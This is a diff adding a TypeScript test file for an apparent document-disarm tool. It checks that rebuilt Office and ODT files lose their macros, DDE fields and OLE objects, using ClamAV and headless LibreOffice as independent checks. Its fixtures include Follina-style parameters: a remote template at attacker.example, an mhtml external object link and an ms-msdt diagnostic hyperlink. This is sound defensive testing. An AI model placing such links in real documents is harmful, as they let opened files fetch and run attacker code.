@@ -1,0 +1,150 @@
+/**
+ * Independent readers agree with the Office and ODT rebuild: ClamAV (its OLE2 macro heuristic and
+ * a signature database written here for the active features it has no heuristic for) flags every
+ * active input and no output, and headless LibreOffice converts every output, with the same
+ * text as the input.
+ */
+import { execFileSync } from 'node:child_process';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+
+import {
+  ACTIVE_CONTENT_SIGNATURES,
+  buildImage,
+  buildOdt,
+  buildOfficeDocument,
+} from '@disarm/fixtures';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+
+import { disarm } from '../src/disarm.ts';
+
+const REPO = resolve(import.meta.dirname, '..', '..', '..');
+
+let dir: string;
+const cases: { name: string; input: Uint8Array; output: Uint8Array }[] = [];
+
+beforeAll(async () => {
+  execFileSync('bash', [join(REPO, 'scripts', 'ensure-system-deps.sh')], { stdio: 'ignore' });
+  dir = await mkdtemp(join(tmpdir(), 'office-independent-'));
+  await writeFile(join(dir, 'disarm.ndb'), ACTIVE_CONTENT_SIGNATURES);
+  const png = await buildImage('png', { width: 24, height: 24 });
+  const texts = ['Quarterly numbers are up', 'Second paragraph'];
+  const inputs: [string, Uint8Array][] = [
+    ['vba.docm', await buildOfficeDocument('docm', { texts, vba: true })],
+    ['dde-field.docx', await buildOfficeDocument('docx', { texts, dde: true })],
+    ['fetch.docx', await buildOfficeDocument('docx', { texts, fetchingFields: true })],
+    [
+      'follina.docx',
+      await buildOfficeDocument('docx', {
+        texts,
+        attachedTemplate: 'http://attacker.example/t.dotm',
+        externalOle: 'mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html',
+        hyperlinks: ['ms-msdt:/id PCWDiagnostic'],
+      }),
+    ],
+    ['ole.docx', await buildOfficeDocument('docx', { texts, oleObject: true, image: png })],
+    ['vba-book.xlsm', await buildOfficeDocument('xlsm', { texts, vba: true })],
+    ['xlm-book.xlsm', await buildOfficeDocument('xlsm', { texts, macroSheet: true })],
+    ['dde-formula.xlsx', await buildOfficeDocument('xlsx', { texts, dde: true })],
+    ['vba-deck.pptm', await buildOfficeDocument('pptm', { texts, vba: true })],
+    ['action.pptx', await buildOfficeDocument('pptx', { texts, macroAction: true })],
+    [
+      'ole-show.ppsx',
+      await buildOfficeDocument('ppsx', { texts, externalOle: 'https://attacker.example/x' }),
+    ],
+    ['basic.odt', await buildOdt({ texts, basic: true, scripts: true, image: png })],
+  ];
+  for (const [name, input] of inputs) {
+    const outcome = await disarm({ bytes: input, fileName: name });
+    if (outcome.status !== 'cleaned')
+      throw new Error(`${name}: ${outcome.reason} ${outcome.detail}`);
+    cases.push({ name, input, output: outcome.bytes });
+    await mkdir(join(dir, 'in'), { recursive: true });
+    await mkdir(join(dir, 'out'), { recursive: true });
+    await writeFile(join(dir, 'in', name), input);
+    await writeFile(join(dir, 'out', name), outcome.bytes);
+  }
+}, 300_000);
+
+afterAll(async () => {
+  await rm(dir, { recursive: true, force: true });
+});
+
+/** clamscan's verdict per file name: the signature it found, or `OK`. */
+function clamscan(folder: string): Record<string, string> {
+  let report: string;
+  try {
+    report = execFileSync(
+      'clamscan',
+      ['--no-summary', '--alert-macros=yes', '-d', join(dir, 'disarm.ndb'), '-r', folder],
+      { encoding: 'utf8' },
+    );
+  } catch (error) {
+    // Exit 1 means "something found"; the report is still on stdout.
+    const stdout = (error as { stdout?: unknown }).stdout;
+    report = typeof stdout === 'string' ? stdout : '';
+  }
+  return Object.fromEntries(
+    report
+      .trim()
+      .split('\n')
+      .map((line) => {
+        const [path = '', verdict = ''] = line.split(': ');
+        return [path.slice(path.lastIndexOf('/') + 1), verdict.replace(/ FOUND$/, '')];
+      }),
+  );
+}
+
+/** LibreOffice's text of every file in `folder`, converted in one headless run. */
+async function libreOfficeText(folder: string): Promise<Record<string, string>> {
+  const pdfs = join(folder, 'pdf');
+  expect(new Set(cases.map((c) => c.name.replace(/\.[^.]+$/, ''))).size).toBe(cases.length);
+  execFileSync(
+    'soffice',
+    [
+      `-env:UserInstallation=file://${join(dir, 'profile')}`,
+      '--headless',
+      '--convert-to',
+      'pdf',
+      '--outdir',
+      pdfs,
+      ...cases.map((c) => join(folder, c.name)),
+    ],
+    { stdio: 'ignore', timeout: 240_000 },
+  );
+  const texts: Record<string, string> = {};
+  for (const { name } of cases) {
+    const pdf = join(pdfs, `${name.slice(0, name.lastIndexOf('.'))}.pdf`);
+    await readFile(pdf);
+    texts[name] = execFileSync('pdftotext', [pdf, '-'], { encoding: 'utf8' })
+      .replace(/\s+/g, ' ')
+      .trim();
+  }
+  return texts;
+}
+
+describe('Office and ODT outputs, as independent readers see them', () => {
+  it('ClamAV flags every active input and no output', () => {
+    const inputs = clamscan(join(dir, 'in'));
+    const outputs = clamscan(join(dir, 'out'));
+    for (const { name } of cases) {
+      expect(inputs[name], `input ${name}`).toMatch(/^(Heuristics\.OLE2\.ContainsMacros|Disarm\.)/);
+      expect(outputs[name], `output ${name}`).toBe('OK');
+    }
+    expect(inputs['vba.docm']).toMatch(/^Heuristics\.OLE2\.ContainsMacros/);
+  });
+
+  it('LibreOffice converts every output, and its text is the input text', async () => {
+    const before = await libreOfficeText(join(dir, 'in'));
+    const after = await libreOfficeText(join(dir, 'out'));
+    for (const { name } of cases) {
+      expect(after[name], name).toContain('Quarterly numbers are up');
+      // LibreOffice recalculates the DDE formula of the input on load (Err:509); the rebuilt
+      // cell has no formula left and shows the value Excel cached for it.
+      const expected =
+        name === 'dde-formula.xlsx' ? before[name]?.replace('Err:509', '0') : before[name];
+      expect(after[name], name).toBe(expected);
+    }
+  }, 600_000);
+});
